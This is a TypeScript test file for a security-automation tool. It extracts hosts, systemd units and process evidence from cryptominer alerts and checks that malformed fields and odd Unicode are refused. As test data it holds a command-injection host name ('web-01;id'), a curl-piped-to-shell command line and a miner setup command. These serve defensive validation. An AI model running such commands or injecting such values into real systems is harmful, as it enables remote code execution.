import { describe, expect, it } from 'vitest';
import type { Alert } from '../../../src/alert/alert.js';
import { parseAlerts } from '../../../src/alert/intake.js';
import { extractTarget, type Target } from '../../../src/alert/target.js';
import { InvalidFieldError } from '../../../src/errors.js';
import { ALERT_ID, HOST_ID, isHostName, isIpAddress, isNormalAbsolutePath, isUnitName } from '../../../src/grammar.js';
import { exampleHit, exampleWith, sourceOf, webhookBody } from './example.js';

const EXAMPLE_TARGET: Target = {
  alertId: '0f6c1e7a9b3d4c2e8a5f7b1d3e9c0a2b4d6f8e1a3c5b7d9f0e2a4c6b8d0f1e3a',
  host: {
    name: 'web-01',
    id: '9c0b1a2d3e4f5a6b7c8d9e0f1a2b3c4d',
    addresses: ['10.0.12.34', 'fe80::5054:ff:fe12:3456'],
    os: 'linux',
  },
  unit: 'c3pool_miner.service',
  pathHint: '/tmp/c3pool_miner.service',
  writer: {
    pid: 4421,
    entityId: 'M2YyYTljMWUtN2I1ZC00ZThmLWExYzMtNWQ3ZTlmMWIzYTVjLTQ0MjEtMTcxNDY0NDkzMQ==',
    executable: '/usr/bin/bash',
    commandLine: 'bash setup_c3pool_miner.sh 4xxxxWALLETxxxx',
    parent: {
      pid: 4400,
      entityId: 'M2YyYTljMWUtN2I1ZC00ZThmLWExYzMtNWQ3ZTlmMWIzYTVjLTQ0MDAtMTcxNDY0NDkyMA==',
      executable: undefined,
    },
  },
  user: { id: '1000', name: 'ubuntu' },
};

/** The target of the input's first alert, after extracting every alert's target. */
function targetOf(input: unknown): Target {
  const [target] = parseAlerts(input).map((alert: Alert) => extractTarget(alert));
  if (target === undefined) throw new Error('no alert');
  return target;
}

function refusedAt(input: unknown, field: string): InvalidFieldError {
  let caught: unknown;
  try {
    targetOf(input);
  } catch (error) {
    caught = error;
  }
  expect(caught).toBeInstanceOf(InvalidFieldError);
  const error = caught as InvalidFieldError;
  expect(error.code).toBe('INVALID_FIELD');
  expect(error.field).toBe(field);
  return error;
}

describe('extractTarget', () => {
  it('the example c3pool alert: host web-01, unit c3pool_miner.service, hint /tmp/…, writer pid 4421', () => {
    expect(targetOf(exampleHit())).toEqual(EXAMPLE_TARGET);
  });

  it('the same target from a webhook body', () => {
    expect(targetOf(webhookBody([sourceOf(exampleHit())]))).toEqual(EXAMPLE_TARGET);
  });

  it('an alert without process or path: no writer, no hint', () => {
    const hit = exampleHit();
    delete sourceOf(hit).process;
    delete (sourceOf(hit).file as Record<string, unknown>).path;
    expect(targetOf(hit)).toEqual({ ...EXAMPLE_TARGET, writer: undefined, pathHint: undefined });
  });

  it('a hint that names the link in a wants directory', () => {
    const hit = exampleWith('file.name', 'apache4.service');
    sourceOf(hit).file = { name: 'apache4.service', path: '/etc/systemd/system/default.target.wants/apache4.service' };
    expect(targetOf(hit)).toMatchObject({ unit: 'apache4.service', pathHint: '/etc/systemd/system/default.target.wants/apache4.service' });
  });

  it('template instances and IPv4-mapped IPv6 addresses are fine', () => {
    const hit = exampleWith('file.name', 'c3pool_miner@1.service');
    (sourceOf(hit).file as Record<string, unknown>).path = '/etc/systemd/system/c3pool_miner@1.service';
    (sourceOf(hit).host as Record<string, unknown>).ip = ['::ffff:10.0.12.34', '2001:db8::1'];
    expect(targetOf(hit)).toMatchObject({ unit: 'c3pool_miner@1.service', host: { addresses: ['::ffff:10.0.12.34', '2001:db8::1'] } });
  });

  it.each([
    ['host.name', '_source.host.name'],
    ['file.name', '_source.file.name'],
    ['host.os.type', '_source.host.os.type'],
  ])('refuses an alert without %s', (field, path) => {
    expect(refusedAt(exampleWith(field, null), path).message).toContain('missing');
  });

  it('refuses a Windows alert, saying why', () => {
    const error = refusedAt(exampleWith('host.os.type', 'windows'), '_source.host.os.type');
    expect(error.message).toBe(
      '_source.host.os.type: "windows" is not linux. The alert is refused and nothing was run: soar acts on Linux hosts only',
    );
  });

  it('refuses a hint naming another file than file.name', () => {
    const error = refusedAt(exampleWith('file.path', '/etc/systemd/system/sshd.service'), '_source.file.path');
    expect(error.message).toContain('is not a path to file.name "c3pool_miner.service"');
  });

  it('names the alert inside a search response or a webhook body', () => {
    const hostile = exampleWith('host.name', 'web-01;id');
    refusedAt({ hits: { hits: [exampleHit(), hostile] } }, 'hits.hits[1]._source.host.name');
    refusedAt(webhookBody([sourceOf(exampleHit()), sourceOf(hostile)]), 'alerts[1].host.name');
  });

  it('names the bad element of host.ip', () => {
    const error = refusedAt(exampleWith('host.ip', ['10.0.12.34', '10.0.12.35', 'fe80::1%eth0']), '_source.host.ip');
    expect(error.message).toContain('element 2, "fe80::1%eth0"');
  });

  it('refuses more addresses than a host has', () => {
    const addresses = Array.from({ length: 257 }, (_, i) => `10.0.${i >> 8}.${i & 255}`);
    refusedAt(exampleWith('host.ip', addresses), '_source.host.ip');
  });

  it('refuses a bad alert id that both kibana.alert.uuid and _id carry', () => {
    const hit = exampleWith('kibana.alert.uuid', 'abc def');
    hit._id = 'abc def';
    refusedAt(hit, '_source.kibana.alert.uuid');
  });
});

describe('evidence fields never refuse the alert', () => {
  it('keeps printable evidence as it is', () => {
    const target = targetOf(exampleWith('process.command_line', 'bash -c "curl -s http://x | sh"; echo $HOME'));
    expect(target.writer?.commandLine).toBe('bash -c "curl -s http://x | sh"; echo $HOME');
  });

  it.each([
    ['process.command_line', 'bash\u0000setup.sh', (t: Target) => t.writer?.commandLine, '"bash\\u0000setup.sh"'],
    ['process.executable', '/tmp/\u202eexe.hsab', (t: Target) => t.writer?.executable, '"/tmp/\\u202eexe.hsab"'],
    ['process.parent.executable', '/bin/sh\nfake line', (t: Target) => t.writer?.parent?.executable, '"/bin/sh\\nfake line"'],
    ['process.entity_id', 'id\u2028x', (t: Target) => t.writer?.entityId, '"id\\u2028x"'],
    ['user.name', 'root\u0085', (t: Target) => t.user.name, '"root\\u0085"'],
    ['process.command_line', 'bash\u200bsetup.sh', (t: Target) => t.writer?.commandLine, '"bash\\u200bsetup.sh"'],
    ['user.id', '1000\ufeff', (t: Target) => t.user.id, '"1000\\ufeff"'],
  ])('keeps unprintable %s JSON-escaped, with a note', (field, value, pick, escaped) => {
    expect(pick(targetOf(exampleWith(field, value)))).toBe(`[soar: unprintable characters, shown JSON-escaped] ${escaped}`);
  });

  it('cuts over-long evidence, saying how long it was', () => {
    const commandLine = `bash ${'A'.repeat(10_000)}`;
    const kept = targetOf(exampleWith('process.command_line', commandLine)).writer?.commandLine ?? '';
    expect(kept.startsWith(`bash ${'A'.repeat(4091)}… [soar: cut, 10005 characters`)).toBe(true);
    expect(kept.length).toBeLessThan(4200);
  });

  it('cuts long unprintable evidence too', () => {
    const kept = targetOf(exampleWith('process.command_line', `\u0007${'B'.repeat(9000)}`)).writer?.commandLine ?? '';
    expect(kept).toMatch(/^\[soar: unprintable characters, shown JSON-escaped\] "\\u0007B+"… \(9001 characters\)$/);
  });
});

/** Characters that look like, hide in, or reorder ASCII text. */
const ODD_UNICODE = {
  'zero-width space': '\u200b',
  'zero-width joiner': '\u200d',
  'right-to-left override': '\u202e',
  'left-to-right isolate': '\u2066',
  'byte-order mark': '\ufeff',
  'no-break space': '\u00a0',
  'line separator': '\u2028',
  'fullwidth full stop': '\uff0e',
  'ideographic full stop': '\u3002',
  'one dot leader': '\u2024',
  'combining acute accent': '\u0301',
  'soft hyphen': '\u00ad',
  'non-breaking hyphen': '\u2011',
  'Cyrillic a': '\u0430',
  'Greek omicron': '\u03bf',
  'fullwidth digit one': '\uff11',
};

describe('odd Unicode is refused by every strict grammar', () => {
  const grammars: Array<[string, string, (value: string) => boolean]> = [
    ['host name', 'web-01.example.com', isHostName],
    ['unit name', 'c3pool_miner.service', isUnitName],
    ['path', '/etc/systemd/system/c3pool_miner.service', isNormalAbsolutePath],
    ['IPv4 address', '10.0.12.34', isIpAddress],
    ['IPv6 address', 'fe80::5054:ff:fe12:3456', isIpAddress],
    ['host id', '9c0b1a2d-3e4f', (value) => HOST_ID.test(value)],
    ['alert id', '0f6c1e7a9b3d4c2e', (value) => ALERT_ID.test(value)],
  ];

  for (const [grammar, valid, accepts] of grammars) {
    it(`${grammar}: ${Object.keys(ODD_UNICODE).length} odd characters at the start, middle and end`, () => {
      expect(accepts(valid)).toBe(true);
      for (const character of Object.values(ODD_UNICODE)) {
        const middle = Math.floor(valid.length / 2);
        for (const variant of [character + valid, valid.slice(0, middle) + character + valid.slice(middle), valid + character]) {
          expect(accepts(variant), `${grammar} accepted ${JSON.stringify(variant)}`).toBe(false);
        }
      }
    });
  }

  it('a homoglyph replacing a letter', () => {
    expect(isHostName('w\u0435b-01')).toBe(false);
    expect(isUnitName('c3p\u043eol_miner.service')).toBe(false);
    expect(isNormalAbsolutePath('/tmp/c3p\u043eol_miner.service')).toBe(false);
  });
});
